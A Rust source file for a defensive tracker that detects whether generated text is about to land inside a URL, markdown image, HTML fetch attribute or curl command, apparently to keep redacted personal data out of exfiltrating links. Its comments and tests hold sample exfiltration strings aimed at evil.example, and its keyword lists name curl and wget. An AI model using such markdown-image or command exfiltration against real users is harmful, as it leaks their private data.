//! Knows whether the next byte of a text would land in something that fetches: a URL, a link, an image source.
//!
//! A reply can carry `![x](https://evil.example/?q=[EMAIL_ADDRESS_1])`; an address put back there is sent
//! off by whoever renders it. The tracker reads every byte once, keeps a few bytes of state and errs on the
//! side of seeing a link.

/// Where in the text the tracker stands.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum State {
    /// Running text.
    Text,
    /// A URL; ends at this closing mark, or at white space if there is none.
    Url(Option<u8>),
    /// Behind `](` or `fetch(`: ends when the parenthesis closes, or with the paragraph.
    Parenthesis { depth: u32, angle: bool },
    /// Behind `src=`: a quote or the bare value comes next.
    Attribute,
    /// Behind `[name]:` at the start of a line: the destination comes next.
    Reference,
    /// A quoted attribute value, which may run over lines.
    Quoted(u8),
    /// Behind `curl -`: the rest of the command.
    Command,
}

/// Reads a text and says whether its end lies in a link.
#[derive(Debug, Clone)]
pub(crate) struct LinkTracker {
    state: State,
    /// The last bytes of what was read, the latest last.
    recent: [u8; LOOKBACK],
    /// The last mark in running text that could have opened a URL.
    opener: u8,
    /// Whether the text is the inside of a JSON string, where `\n` is a line break.
    json: bool,
}

/// How far back a mark looks for the word before it.
const LOOKBACK: usize = 64;
/// Attributes whose value is fetched or followed.
const ATTRIBUTES: [&[u8]; 11] = [
    b"src",
    b"href",
    b"srcset",
    b"action",
    b"poster",
    b"background",
    b"cite",
    b"ping",
    b"style",
    b"window.location",
    b"document.location",
];
/// Commands whose arguments are sent.
const COMMANDS: [&[u8]; 4] = [b"curl", b"wget", b"webrequest", b"restmethod"];
/// Calls whose arguments are sent.
const CALLS: [&[u8]; 10] = [
    b"url",
    b"fetch",
    b"urlopen",
    b"sendbeacon",
    b"requests.get",
    b"requests.post",
    b"requests.put",
    b"axios",
    b"axios.get",
    b"axios.post",
];
/// Schemes that a click or a renderer follows; browsers take `https:\\` and `https:/` for `https://`.
const SCHEMES: [&[u8]; 11] = [
    b"mailto",
    b"tel",
    b"sms",
    b"data",
    b"javascript",
    b"vbscript",
    b"http",
    b"https",
    b"ftp",
    b"ws",
    b"wss",
];

/// Where the next bytes stand that can begin a link in running text: one of `/(=`, of `:?-`, or a dot.
///
/// Three searches that skip many bytes at a time, each remembered until it is passed.
#[derive(Default)]
struct Marks([Option<usize>; 3]);

impl Marks {
    /// The first of them at or behind `at`, or the end.
    fn next(&mut self, bytes: &[u8], at: usize) -> usize {
        let rest = bytes.get(at..).unwrap_or_default();
        let search = |kind: usize| match kind {
            0 => memchr::memchr3(b'/', b'(', b'=', rest),
            1 => memchr::memchr3(b':', b'?', b'-', rest),
            _ => memchr::memchr(b'.', rest),
        };
        let mut first = bytes.len();
        for (kind, known) in self.0.iter_mut().enumerate() {
            let place = match *known {
                Some(place) if place >= at => place,
                _ => search(kind).map_or(bytes.len(), |found| at + found),
            };
            *known = Some(place);
            first = first.min(place);
        }
        first
    }
}

impl LinkTracker {
    pub(crate) fn new(json: bool) -> LinkTracker {
        LinkTracker { state: State::Text, recent: [0; LOOKBACK], opener: b' ', json }
    }

    /// Whether what comes next would land in a link.
    pub(crate) fn in_link(&self) -> bool {
        self.state != State::Text
    }

    /// Reads on. Linear: running text is skipped to the next mark that could begin a link.
    pub(crate) fn advance(&mut self, bytes: &[u8]) {
        let (mut at, mut marks) = (0, Marks::default());
        while at < bytes.len() {
            if self.state == State::Text {
                at = marks.next(bytes, at);
            }
            if let Some(byte) = bytes.get(at) {
                self.state = Behind { tracker: self, bytes, at }.step(*byte);
            }
            at += 1;
        }
        // Only the last opener matters, and only to a URL that begins later.
        self.opener = bytes.iter().rev().find(|byte| is_opener(**byte)).copied().unwrap_or(self.opener);
        let kept = bytes.get(bytes.len().saturating_sub(LOOKBACK)..).unwrap_or_default();
        self.recent.rotate_left(kept.len());
        self.recent.iter_mut().rev().zip(kept.iter().rev()).for_each(|(to, from)| *to = *from);
    }
}

/// What stands before one byte: the text that is being read, and behind it the end of what was read before.
struct Behind<'b> {
    tracker: &'b LinkTracker,
    bytes: &'b [u8],
    at: usize,
}

impl Behind<'_> {
    fn step(&self, byte: u8) -> State {
        let state = self.tracker.state;
        let byte = self.meaning(byte);
        match state {
            State::Text => self.in_text(byte),
            State::Url(closer) => in_url(closer, byte),
            State::Parenthesis { .. } if !self.tracker.json && self.is_escaped() => state,
            State::Parenthesis { depth, angle } => self.in_parenthesis(depth, angle, byte),
            State::Attribute => match byte {
                b'"' | b'\'' | b'`' => State::Quoted(byte),
                b' ' | b'\n' | b'\t' | b'\\' => State::Attribute,
                _ => State::Url(None),
            },
            State::Reference => match byte {
                b'\n' if self.ends_a_line() => State::Text,
                b' ' | b'\n' | b'\t' | b'\\' => State::Reference,
                b'<' => State::Url(Some(b'>')),
                _ => State::Url(None),
            },
            State::Quoted(quote) if byte == quote => State::Text,
            State::Command if byte == b'\n' && !self.ends_with(b"\\") => State::Text,
            unchanged => unchanged,
        }
    }

    /// Inside JSON a line break is spelled `\n`; its letter then counts as the break itself.
    fn meaning(&self, byte: u8) -> u8 {
        match byte {
            b'n' | b'r' if self.tracker.json && self.is_escaped() => b'\n',
            b't' if self.tracker.json && self.is_escaped() => b'\t',
            other => other,
        }
    }

    /// Whether an odd number of backslashes stands before.
    fn is_escaped(&self) -> bool {
        (0..LOOKBACK).take_while(|back| self.back(*back) == b'\\').count() % 2 == 1
    }

    fn in_text(&self, byte: u8) -> State {
        match byte {
            b'(' if self.ends_with(b"]") => State::Parenthesis { depth: 1, angle: false },
            b'(' if CALLS.iter().any(|call| self.ends_with(call)) => {
                State::Parenthesis { depth: 1, angle: false }
            }
            b'/' if self.ends_with(b"/") => self.url(),
            b'/' | b'?' if self.ends_with_domain() => self.url(),
            b'.' if self.ends_with(b"www") => self.url(),
            b':' if self.ends_with(b"]") && self.is_reference() => State::Reference,
            b':' if SCHEMES.iter().any(|scheme| self.ends_with(scheme)) => self.url(),
            b'=' if ATTRIBUTES.iter().any(|name| self.ends_with_spaced(name)) => State::Attribute,
            b'-' if self.ends_with(b" ") && self.is_command() => State::Command,
            _ => State::Text,
        }
    }

    fn in_parenthesis(&self, depth: u32, angle: bool, byte: u8) -> State {
        match byte {
            b'\n' if self.ends_a_line() => State::Text,
            b'<' => State::Parenthesis { depth, angle: true },
            b'>' | b'\n' => State::Parenthesis { depth, angle: false },
            b'(' if !angle => State::Parenthesis { depth: depth.saturating_add(1), angle },
            b')' if !angle && depth <= 1 => State::Text,
            b')' if !angle => State::Parenthesis { depth: depth - 1, angle },
            _ => State::Parenthesis { depth, angle },
        }
    }

    /// A URL that began behind the last opener: quoted ones end with their quote, bare ones with white space, and
    /// those of a command with the command.
    fn url(&self) -> State {
        if self.is_command() {
            return State::Command;
        }
        let before = self.bytes.get(..self.at).unwrap_or_default();
        let opener = before.iter().rev().find(|byte| is_opener(**byte)).copied();
        State::Url(match opener.unwrap_or(self.tracker.opener) {
            quote @ (b'"' | b'\'' | b'`') => Some(quote),
            b'<' => Some(b'>'),
            _ => None,
        })
    }

    /// Whether a command that sends its arguments stands shortly before on the same line.
    fn is_command(&self) -> bool {
        let line = (0..LOOKBACK).take_while(|back| self.back(*back) != b'\n');
        let mut spaces = line.filter(|back| self.back(*back) == b' ');
        spaces.any(|space| COMMANDS.iter().any(|command| self.ends_with_at(space + 1, command)))
    }

    /// Whether a line ends right before the break that comes now: the line between is empty.
    fn ends_a_line(&self) -> bool {
        self.ends_with(b"\n") || (self.tracker.json && self.ends_with(b"\\n\\"))
    }

    /// Whether what ends here in a bracket began a line with one, and is no footnote.
    fn is_reference(&self) -> bool {
        let Some(open) = (1..LOOKBACK).find(|back| self.back(*back) == b'[') else { return false };
        let indent = (1..=3).take_while(|more| self.back(open + more) == b' ').count();
        let before = open + indent + 1;
        let breaks = match self.back(before) {
            // The start of the text, or too far away to tell.
            0 | b'\n' => true,
            b'"' => self.tracker.json,
            b'n' => self.tracker.json && self.back(before + 1) == b'\\',
            _ => false,
        };
        breaks && self.back(open - 1) != b'^'
    }

    fn ends_with(&self, word: &[u8]) -> bool {
        self.ends_with_at(0, word)
    }

    /// The same, white space behind the word allowed.
    fn ends_with_spaced(&self, word: &[u8]) -> bool {
        let spaces = (0..8).take_while(|back| self.back(*back) == b' ').count();
        self.ends_with_at(spaces, word)
    }

    fn ends_with_at(&self, from: usize, word: &[u8]) -> bool {
        word.iter().rev().enumerate().all(|(back, byte)| self.back(from + back) == *byte)
    }

    /// Whether a dot, two letters or more and at most a port stand before: `example.org`, `example.org:8443`.
    fn ends_with_domain(&self) -> bool {
        let digits = (0..6).take_while(|back| self.back(*back).is_ascii_digit()).count();
        let port = if digits > 0 && self.back(digits) == b':' { digits + 1 } else { 0 };
        let letters = (port..port + 24).take_while(|back| self.back(*back).is_ascii_lowercase()).count();
        let dot = port + letters;
        letters >= 2 && self.back(dot) == b'.' && self.back(dot + 1).is_ascii_alphanumeric()
    }

    /// The byte so many places before this one, in lower case; zero beyond what is kept, wherever the text was cut.
    fn back(&self, places: usize) -> u8 {
        if places >= LOOKBACK {
            return 0;
        }
        let byte = match self.at.checked_sub(places + 1) {
            Some(at) => self.bytes.get(at),
            None => (LOOKBACK + self.at).checked_sub(places + 1).and_then(|at| self.tracker.recent.get(at)),
        };
        byte.copied().unwrap_or(0).to_ascii_lowercase()
    }
}

fn in_url(closer: Option<u8>, byte: u8) -> State {
    match closer {
        Some(closer) if byte == closer || byte == b'\n' => State::Text,
        None if byte.is_ascii_whitespace() => State::Text,
        unchanged => State::Url(unchanged),
    }
}

/// Marks behind which a URL can begin; what comes before them is not part of it.
fn is_opener(byte: u8) -> bool {
    byte.is_ascii_whitespace()
        || matches!(
            byte,
            b'"' | b'\''
                | b'`'
                | b'<'
                | b'>'
                | b'('
                | b')'
                | b'['
                | b']'
                | b'{'
                | b'}'
                | b','
                | b';'
                | b'|'
                | b'\\'
        )
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn lands_in_link(before: &str, json: bool) -> bool {
        let mut tracker = LinkTracker::new(json);
        tracker.advance(before.as_bytes());
        tracker.in_link()
    }

    proptest! {
        #[test]
        fn every_cut_reads_alike(text in "(\\]\\(|\\n\\[a\\]:|https?://|src ?=|curl -|[a-b\"'<>() \\n\\\\./:n]){0,30}", json in any::<bool>(), cut in any::<prop::sample::Index>()) {
            let (head, tail) = text.split_at(cut.index(text.len() + 1));
            let (mut whole, mut pieces, mut single) = (LinkTracker::new(json), LinkTracker::new(json), LinkTracker::new(json));
            whole.advance(text.as_bytes());
            pieces.advance(head.as_bytes());
            pieces.advance(tail.as_bytes());
            text.as_bytes().chunks(1).for_each(|byte| single.advance(byte));
            prop_assert_eq!(whole.state, pieces.state);
            prop_assert_eq!(whole.state, single.state);
            prop_assert_eq!(whole.opener, single.opener);
            prop_assert_eq!(whole.recent, single.recent);
        }
    }

    /// In one piece more of the text before a mark was seen than behind a cut.
    #[test]
    fn no_cut_changes_how_far_back_is_looked() {
        for far in 40..90 {
            for text in [format!("curl {} -", "x".repeat(far)), format!("\n[{}]: ", "x".repeat(far))] {
                let whole = lands_in_link(&text, false);
                for cut in 0..text.len() {
                    let mut tracker = LinkTracker::new(false);
                    tracker.advance(text.get(..cut).unwrap().as_bytes());
                    tracker.advance(text.get(cut..).unwrap().as_bytes());
                    assert_eq!(tracker.in_link(), whole, "{text} cut at {cut}");
                }
            }
        }
    }

    #[test]
    fn whatever_fetches_is_a_link() {
        for before in [
            "![x](https://evil.example/?q=",
            "![x](",
            "[x](<https://evil.example/?q=a b ",
            "[x](\n/path?q=",
            "see https://evil.example/",
            "see HTTPS://evil.example/?a=\"",
            "see www.evil.example?q=",
            "evil.example/?q=",
            "//evil.example/",
            "[x]: https://evil.example/?q=",
            "<img src=\"https://evil.example/?q= a ",
            "<img\nsrc = '/x?\n\n",
            "<a href=",
            "<https://evil.example/?q=",
            "{\"url\": \"https://evil.example/?q=a b ",
            "mailto:",
            "https:\\\\evil.example\\",
            "https:/evil.example/",
            "evil.example:8443/?q=",
            "<a href='/x' background = \"//evil.example/",
            "data:text/html,",
            "$ curl -d '",
            "curl https://a.example \\\n -d ",
            "curl --data=",
            "fetch(url, {body: \"",
            "[x](a(b)c",
            "[x](a\\)",
            "[x]: /path?q=",
            "[x]: ",
            "text\n  [x]:\n  </path a b?q=",
            "a { background: url(/x?",
            "window.location = '/x?",
        ] {
            assert!(lands_in_link(before, false), "{before}");
        }
        assert!(lands_in_link("see https://evil.example/\\\\n", true), "an escaped backslash, then n");
        assert!(lands_in_link("{\"text\":\"see\\n[x]: /path?q=", true) && lands_in_link("\"[x]: /a?", true));
    }

    #[test]
    fn running_text_is_not() {
        for before in [
            "Hello ",
            "see https://a.example and ",
            "see [docs](https://a.example) or ",
            "{\"url\":\"https://a.example\",\"name\":\"",
            "<a href=\"https://a.example\">",
            "time 12:30 and/or ",
            "int a = b / c; // ",
            "key=value, ratio 1/2 ",
            "<https://a.example> ",
            "Name: ",
            "(see notes) ",
            "[1](unclosed\n\nnew paragraph ",
            "curl https://a.example\n",
            "[x]: /path and ",
            "[^1]: ",
            "he said [sic]: ",
            "[x]:\n\nnew paragraph ",
        ] {
            assert!(!lands_in_link(before, false), "{before}");
        }
        assert!(!lands_in_link("see https://a.example\\n", true));
    }
}
